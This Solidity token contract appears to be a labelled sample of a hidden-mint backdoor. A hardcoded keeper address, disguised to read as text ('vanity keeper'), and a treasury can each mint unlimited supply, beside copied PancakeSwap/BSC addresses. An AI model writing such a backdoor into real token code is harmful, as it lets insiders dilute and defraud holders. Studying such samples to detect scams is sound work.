// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// A token that keeps, in storage and in its code, the DEX contracts of a chain other than the
/// one it is on (PancakeSwap's router and factory, WBNB and BSC-USD, as a BSC token moved elsewhere does),
/// beside a treasury wallet of its own that may mint, and a keeper written into the code whose
/// address reads as text ("vanity keeper", made so an account found in code is taken for a message).
contract KeepsDexAddresses {
    address private constant PANCAKE_ROUTER = 0x10ED43C718714eb63d5aA57B78B54704E256024E;
    address private constant PANCAKE_FACTORY = 0xcA143Ce32Fe78f1f7019d7d551a6402fC5350c73;
    address private constant WBNB = 0xbb4CdB9CBd36B01bD1cBaEBF2De08d9173bc095c;
    address private constant BSC_USD = 0x55d398326f99059fF775485246999027B3197955;
    address private constant KEEPER = 0x76616E697479206b656570657217e9A1B2c3d4E5;

    string public name = "Keeps DEX Addresses";
    string public symbol = "KEEP";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public router = PANCAKE_ROUTER;
    address public factory = PANCAKE_FACTORY;
    address public wrapped = WBNB;
    address public quote = BSC_USD;
    address public treasury;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply, address treasury_) {
        treasury = treasury_;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    /// The treasury's power: supply out of nothing.
    function replenish(uint256 value) external {
        require(msg.sender == treasury, "treasury only");
        totalSupply += value;
        balanceOf[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }

    /// The keeper's power, gated by a comparison with the caller: supply out of nothing too.
    function topUp(uint256 value) external {
        require(msg.sender == KEEPER);
        totalSupply += value;
        balanceOf[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
